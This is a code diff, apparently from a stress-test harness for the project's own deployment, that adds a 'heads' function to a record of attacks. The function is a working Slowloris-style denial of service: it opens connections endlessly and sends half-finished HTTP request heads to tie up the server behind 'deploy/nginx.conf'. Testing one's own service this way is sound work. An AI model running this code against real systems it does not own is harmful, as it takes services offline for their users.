@@ -103,6 +103,17 @@ export const attacks: Record<string, (target: Target) => Promise<void>> = {
     }
   },
 
+  /** One address holds every connection that it can, each with half a request head. Through `deploy/nginx.conf`. */
+  async heads({ host, port }) {
+    for (;;) {
+      for (let i = 0; i < 100; i += 1) {
+        const socket = connect({ host, port, localAddress: SOURCE }).on('error', () => {});
+        socket.write('GET /api/chain HTTP/1.1\r\nhost: x\r\n');
+      }
+      await sleep(50);
+    }
+  },
+
   /** 12 accounts store 200 samples of 4 KB each, and read them without a pause on 4 connections each. */
   async downloads(target) {
     const samples = fiftyOf({ metrics: { note: 'x'.repeat(4_000) } });
